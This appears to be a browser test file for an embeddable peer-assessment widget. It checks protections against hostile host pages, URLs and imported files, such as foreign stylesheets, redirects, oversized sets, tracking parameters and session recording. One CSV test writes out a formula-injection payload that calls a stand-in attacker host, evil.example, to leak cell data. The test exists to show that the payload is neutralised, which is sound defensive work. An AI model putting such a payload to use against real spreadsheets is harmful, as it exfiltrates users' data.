// Safe on a stranger's page: what an agency's page, a post's author, a link or a file can make the
// widget do. Each test is a crafted page, address or file, and fails without the protection it
// names: a stylesheet from the page, a set from anywhere or read whole, a setting from the
// address, tracking parameters in a share link, a set from any element, a file read whatever its
// size, a formula in a CSV, answers shown to a session recording.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import jsQR from "jsqr";
import { PNG } from "pngjs";
import { serve, launch, watch, answerAll, CSP, DIST, PHONE, DESKTOP } from "./harness.mjs";

const SET = JSON.stringify({
  id: "county-core",
  version: 1,
  title: "County core skills",
  scale: { labels: ["Not yet", "Sometimes", "Usually", "Always"] },
  categories: [{ id: "A", title: "Listening", competencies: [{ id: "A.1", text: "Listens without interrupting" }] }],
});
const MAX_SET_BYTES = 1024 * 1024;
const OWN_CSS = readdirSync(DIST).find((f) => /^main-[0-9a-f]{8,16}\.css$/.test(f));

const html = (res, body, headers = {}) => {
  res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Content-Security-Policy": CSP, "Cache-Control": "no-store", ...headers });
  res.end(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Agency page</title><link rel="icon" href="data:,">${body.head ?? ""}
<script type="module" src="/embed.js"></script></head><body><main><h1>Agency page</h1>${body.main}</main></body></html>`);
};
const json = (res, text, headers = {}) => {
  res.writeHead(200, { "Content-Type": "application/json", "Cache-Control": "no-store", ...headers });
  res.end(text);
};

const env = {};
const pages = {
  // A post's author wrote data-css pointing at another site; the widget must not load it.
  "/stranger/css.html": (req, res) =>
    html(res, { main: `<div id="w" data-peer-assessment data-namespace="css" data-css="${env.other.url}steal.css"></div>` }),
  // data-set-json naming an element that is not a JSON script, and one that is.
  "/stranger/inline.html": (req, res) =>
    html(res, {
      main: `<div id="not-a-script" hidden>${SET.replace(/</g, "&lt;")}</div>
<div id="w1" data-peer-assessment data-namespace="one" data-set-json="not-a-script"></div>
<script type="application/json" id="county-set">${SET}</script>
<div id="w2" data-peer-assessment data-namespace="two" data-set-json="county-set"></div>`,
    }),
  // Sets fetched from the same site: too large (declared, and streamed without a size),
  // redirected, and a good one, while the page holds a session cookie.
  "/stranger/fetched.html": (req, res) =>
    html(
      res,
      {
        main: ["huge", "streamed", "redirected", "good"]
          .map((name) => `<div id="${name}" data-peer-assessment data-namespace="${name}" data-set-url="/sets/${name}.json"></div>`)
          .join("\n"),
      },
      { "Set-Cookie": "agency_session=s3cr3t; Path=/; SameSite=Strict" },
    ),
  "/sets/huge.json": (req, res) => {
    res.writeHead(200, { "Content-Type": "application/json", "Content-Length": String(50 * MAX_SET_BYTES) });
    res.write("{"); // and never the rest: a widget that waits for the body waits for ever
    env.open.push(res);
  },
  "/sets/streamed.json": (req, res) => {
    res.writeHead(200, { "Content-Type": "application/json" }); // chunked: no size declared
    const chunk = " ".repeat(64 * 1024);
    let sent = 0;
    const more = () => {
      if (res.destroyed || sent > 4 * MAX_SET_BYTES) return void res.end();
      res.write(chunk);
      sent += chunk.length;
      setTimeout(more, 5);
    };
    more();
  },
  "/sets/redirected.json": (req, res) => {
    res.writeHead(302, { Location: "/sets/target.json" });
    res.end();
  },
  "/sets/target.json": (req, res) => json(res, SET.replace("county-core", "county-redirected")),
  "/sets/good.json": (req, res) => json(res, SET),
  // An agency's page, reached from a newsletter and an ad, that declares its own address.
  "/stranger/share.html": (req, res) =>
    html(res, {
      head: `<link rel="canonical" href="/stranger/share.html?page_id=7&amp;utm_source=feed">`,
      main: `<div data-peer-assessment data-namespace="share" data-set="samhsa-2015"></div>`,
    }),
  "/stranger/plain.html": (req, res) => html(res, { main: `<div data-peer-assessment data-namespace="plain" data-set="samhsa-2015"></div>` }),
};

before(async () => {
  env.open = [];
  env.server = await serve(DIST, { routes: pages });
  env.other = await serve(DIST); // another origin: another site
  env.browser = await launch();
});
after(async () => {
  for (const res of env.open) res.destroy();
  await env.browser?.close();
  await env.server?.close();
  await env.other?.close();
});

async function open(path, options = PHONE) {
  const context = await env.browser.newContext(options);
  const page = await context.newPage();
  const watched = watch(page);
  await page.goto(new URL(path, env.server.url).href);
  return { context, page, ...watched };
}

test("a stylesheet named on the page is never loaded: the widget's own is, and recordings are asked to mask it", async () => {
  const { context, page, problems, requests } = await open("/stranger/css.html");
  const widget = page.locator("#w");
  const begin = widget.getByRole("button", { name: "Begin" });
  await begin.waitFor();
  assert.deepEqual(env.other.served, [], "the other site is never asked");
  assert.deepEqual(requests.filter((u) => !u.startsWith(env.server.url)), []);
  const links = await page.evaluate(() => [...document.querySelector("#w").shadowRoot.querySelectorAll("link")].map((l) => l.href));
  assert.deepEqual(links, [new URL(OWN_CSS, env.server.url).href], "only the widget's own stylesheet");
  await page.waitForFunction(() => document.querySelector("#w").shadowRoot.querySelector("link").sheet !== null);
  assert.ok((await begin.boundingBox()).height >= 44, "styled by its own stylesheet");

  // Session-replay tools are told to mask the widget (on the host element and inside).
  const marks = await page.evaluate(() => {
    const host = document.querySelector("#w");
    const root = host.shadowRoot.querySelector(".pa-app").parentElement;
    const of = (e) => ({ attributes: e.getAttributeNames().filter((n) => n !== "id" && !n.startsWith("data-peer") && n !== "data-namespace" && n !== "data-css" && n !== "class" && n !== "style").sort(), classes: [...e.classList].sort() });
    return { host: of(host), root: of(root), clarity: host.getAttribute("data-clarity-mask") };
  });
  const expected = {
    attributes: ["data-clarity-mask", "data-hj-suppress", "data-matomo-mask", "data-private", "data-recording-sensitive", "data-sentry-mask"],
    classes: ["fs-mask", "ph-no-capture", "sentry-mask"],
  };
  assert.deepEqual(marks.host, expected);
  assert.deepEqual(marks.root.attributes, expected.attributes);
  assert.equal(marks.clarity, "true");
  assert.deepEqual(problems, []);
  await context.close();
});

test("the widget's own page is marked for session recordings to mask too", async () => {
  const { context, page, problems } = await open("/");
  await page.locator(".pa-app").waitFor();
  const root = await page.evaluate(() => {
    const r = document.getElementById("peer-assessment");
    return { hj: r.hasAttribute("data-hj-suppress"), clarity: r.getAttribute("data-clarity-mask"), fs: r.classList.contains("fs-mask") };
  });
  assert.deepEqual(root, { hj: true, clarity: "true", fs: true });
  assert.deepEqual(problems, []);
  await context.close();
});

test("data-set-json reads only a <script type=\"application/json\">", async () => {
  const { context, page, problems } = await open("/stranger/inline.html");
  const refused = page.locator("#w1").getByRole("alert");
  await refused.waitFor();
  assert.match(await refused.innerText(), /data-set-json: the element with id "not-a-script" is not a <script type="application\/json">/);
  await page.locator("#w2").getByRole("button", { name: "Begin" }).click();
  await page.locator("#w2").getByRole("group", { name: /Listens without interrupting/ }).waitFor();
  assert.deepEqual(problems, []);
  await context.close();
});

test("a set is fetched as a plain file of this site: no cookies, no redirects, refused by its size before it is read", async () => {
  const { context, page, problems } = await open("/stranger/fetched.html");
  const alert = (id) => page.locator(`#${id}`).getByRole("alert");
  await alert("huge").waitFor({ timeout: 10000 });
  assert.match(await alert("huge").innerText(), /data-set-url "\/sets\/huge\.json": the file is larger than 1024 KB \(51200 KB\); it was not read/);
  await alert("streamed").waitFor({ timeout: 10000 });
  assert.match(await alert("streamed").innerText(), /\/sets\/streamed\.json": the file is larger than 1024 KB/);
  await alert("redirected").waitFor();
  assert.match(await alert("redirected").innerText(), /\/sets\/redirected\.json": the file could not be loaded \(.*redirects are not followed\)/);
  assert.ok(!env.server.served.includes("/sets/target.json"), "the redirect is not followed");
  await page.locator("#good").getByRole("button", { name: "Begin" }).click();
  await page.locator("#good").getByRole("group", { name: /Listens without interrupting/ }).waitFor();
  const setRequests = env.server.received.filter((r) => r.path.startsWith("/sets/"));
  assert.equal(setRequests.length, 4);
  for (const { path, headers } of setRequests) {
    assert.equal(headers.cookie, undefined, `${path} is asked for without the page's cookies`);
    assert.equal(headers.referer, undefined, `${path} is asked for without a referrer`);
  }
  assert.ok((await page.context().cookies()).some((c) => c.name === "agency_session"), "the page did hold a cookie");
  // The browser reports the refused redirect itself, once.
  assert.deepEqual(problems, ["console: Failed to load resource: net::ERR_FAILED"]);
  await context.close();
});

test("the widget's page takes only its documented settings from its address", async () => {
  const { context, page, problems, requests } = await open(
    "/?lang=es&set-url=%2Fsets%2Fgood.json&set-json=x&accent=%23000000&css=%2Fsteal.css",
  );
  await page.getByRole("button", { name: "Comenzar" }).waitFor();
  assert.equal(await page.getAttribute(".pa-app", "lang"), "es", "lang is a setting");
  assert.deepEqual(
    requests.map((u) => new URL(u).pathname).filter((path) => /sets\/good\.json|steal\.css/.test(path)),
    [],
    "no file named in the address is loaded",
  );
  assert.equal(await page.locator("[role=alert]").count(), 0, "no set problem: the set is the visitor's choice");
  const accent = await page.getByRole("button", { name: "Comenzar" }).evaluate((b) => getComputedStyle(b).backgroundColor);
  assert.equal(accent, "rgb(11, 95, 115)", "the accent is the widget's own");
  assert.deepEqual(problems, []);
  await context.close();
});

/**
 * Answers everything, opens the share panel, and returns its link and what its QR code says: a
 * participant's code for the facilitator, or (`rating`) a rating of someone else for the person
 * rated.
 */
async function shareLink(page, rating = false) {
  if (rating) await page.getByText("A peer worker I supervise, mentor or work with").first().click();
  await answerAll(page, () => 3);
  const button = rating ? "Show a short code instead of a file" : "Share anonymously with the facilitator";
  await page.getByRole("button", { name: button }).first().click();
  const code = await page.locator(".pa-code").first().getAttribute("data-code");
  const link = await page.locator(".pa-link").first().innerText();
  const png = PNG.sync.read(await page.locator("svg.pa-qr").first().screenshot());
  const decoded = jsQR(new Uint8ClampedArray(png.data), png.width, png.height)?.data;
  return { code, link, decoded };
}

test("a share link and its QR code carry the widget's settings and the code, never the page's tracking or session parameters", async () => {
  const { context, page, problems } = await open(
    "/?utm_source=newsletter&utm_medium=email&lang=en&fbclid=IwAR0abc&gclid=xyz&mc_eid=42&sessionid=s3cr3t&set=samhsa-2015",
  );
  // A participant's code opens the facilitator's page, with the same settings.
  const { code, link, decoded } = await shareLink(page);
  assert.equal(link, `${env.server.url}facilitator.html?lang=en&set=samhsa-2015#code=${code}`);
  assert.equal(decoded, link, "the QR code says the same");
  assert.deepEqual(problems, []);
  await context.close();
  // A rating of someone else opens this page, for the person rated.
  const rater = await open("/?utm_source=newsletter&lang=en&gclid=xyz&set=samhsa-2015");
  const rated = await shareLink(rater.page, true);
  assert.equal(rated.link, `${env.server.url}?lang=en&set=samhsa-2015#code=${rated.code}`);
  assert.equal(rated.decoded, rated.link);
  await rater.context.close();

  // On an agency's page: a participant's code opens the widget's own facilitator's page, with the
  // widget's namespace and set, never the page's parameters...
  const participant = await open("/stranger/share.html?page_id=7&fbclid=IwAR0abc&utm_campaign=fall", DESKTOP);
  const handed = await shareLink(participant.page);
  assert.equal(handed.link, `${env.server.url}facilitator.html?namespace=share&set=samhsa-2015#code=${handed.code}`);
  await participant.context.close();
  // ... and a rating the address the page declares as its own, without tracking.
  const agency = await open("/stranger/share.html?page_id=7&fbclid=IwAR0abc&utm_campaign=fall", DESKTOP);
  const shared = await shareLink(agency.page, true);
  assert.equal(shared.link, `${env.server.url}stranger/share.html?page_id=7#code=${shared.code}`);
  assert.equal(shared.decoded, shared.link);
  assert.deepEqual(agency.problems, []);
  await agency.context.close();

  // Without one: the page's path alone.
  const plain = await open("/stranger/plain.html?utm_source=x&token=abc", DESKTOP);
  const bare = await shareLink(plain.page, true);
  assert.equal(bare.link, `${env.server.url}stranger/plain.html#code=${bare.code}`);
  await plain.context.close();
});

test("a file chosen for import is refused by its size before any of it is read", async () => {
  const { context, page, problems } = await open("/", DESKTOP);
  await page.evaluate(() => {
    window.__reads = 0;
    for (const name of ["readAsText", "readAsArrayBuffer", "readAsDataURL", "readAsBinaryString"]) {
      const original = FileReader.prototype[name];
      FileReader.prototype[name] = function (...args) {
        window.__reads += 1;
        return original.apply(this, args);
      };
    }
  });
  await page.getByRole("button", { name: "Files", exact: true }).click();
  const big = Buffer.alloc(6 * 1024 * 1024, 0x20);
  await page.getByLabel("Choose a file to import").setInputFiles({ name: "huge-backup.json", mimeType: "application/json", buffer: big });
  const refused = page.getByRole("alert").filter({ hasText: /too large/ });
  await refused.waitFor();
  assert.match(await refused.innerText(), /The file is too large \(6144 KB\)/);
  assert.equal(await page.evaluate(() => window.__reads), 0, "the file was not read");
  assert.deepEqual(problems, []);
  await context.close();
});

test("a CSV never runs a formula, whichever separator the spreadsheet splits on", async () => {
  const { context, page, problems } = await open("/", DESKTOP);
  await page.getByRole("button", { name: "Begin" }).click();
  const first = page.getByRole("group", { name: /Initiates contact/ });
  await first.getByText("Moderate skill").click();
  await first.locator("summary").click();
  await first.getByRole("textbox").fill('Good start; =HYPERLINK("http://evil.example/?"&A1,"x")\t+1+1');
  await page.locator(".pa-jump-menu summary").click();
  await page.getByRole("button", { name: /^See results/ }).click();
  const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download as CSV" }).click()]);
  const csv = await readFile(await file.path(), "utf8");
  const row = csv.split("\r\n").find((line) => line.includes("Good start"));
  assert.ok(row.includes(`"Good start; '=HYPERLINK(""http://evil.example/?""&A1,""x"")\t'+1+1"`), row);
  for (const separator of [",", ";", "\t"]) {
    const cells = csv.replace(/^\uFEFF/, "").split(/\r\n|\n|\r/).flatMap((line) => line.split(separator));
    const formulas = cells.map((c) => c.replace(/^[ "]+/, "")).filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(formulas, [], `split on ${JSON.stringify(separator)}`);
  }
  assert.deepEqual(problems, []);
  await context.close();
});
